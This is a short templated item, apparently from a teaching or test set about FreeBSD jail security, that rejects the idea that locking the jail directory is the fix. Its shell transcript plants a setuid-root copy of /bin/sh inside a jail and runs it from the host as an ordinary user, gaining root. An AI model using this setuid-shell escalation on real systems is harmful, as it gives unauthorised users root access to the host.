fails: shut open nosuid both harmless
misconception: The jail's directory is the door to the jail.

  $ jexec {site} cp /bin/sh /var/tmp/{gift}
  $ jexec {site} chmod 4755 /var/tmp/{gift}
  $ su {user} -c '/usr/jails/{site}/var/tmp/{gift} -c id'
  uid=1002({user}) gid=1002({user}) euid=0(root) groups=1002({user})
  $ chmod 700 /usr/jails/{site}
  $ jexec {site} su {inside} -c id
  su: /bin/sh: Permission denied
  [1]
